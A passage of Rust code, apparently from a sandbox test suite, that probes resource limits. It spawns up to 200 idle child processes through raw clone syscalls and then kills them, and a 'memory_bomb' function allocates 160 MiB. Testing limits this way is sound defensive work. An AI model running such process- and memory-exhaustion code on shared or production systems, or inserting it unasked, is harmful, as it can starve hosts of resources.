    for _ in 0..200 {
        match call(libc::SYS_clone, [libc::SIGCHLD as usize, 0, 0, 0, 0, 0]) {
            Ok(0) => loop {
                let _ = call(libc::SYS_ppoll, [0; 6]);
            },
            Ok(pid) => children.push(pid),
            Err(error) => {
                outcome = Err(why(error));
                break;
            }
        }
    }
    for pid in children {
        let _ = call(libc::SYS_kill, [pid, libc::SIGKILL as usize, 0, 0, 0, 0]);
        let _ = call(libc::SYS_wait4, [pid, 0, 0, 0, 0, 0]);
    }
    outcome
}

/// More memory than any limit of the suite allows.
fn memory_bomb() -> Outcome {
    let mut held = vec![0u8; 160 << 20];
    for byte in held.iter_mut().step_by(4096) {
        *byte = 1;
    }
    std::hint::black_box(&held);
    Ok("160 MiB".to_owned())
}
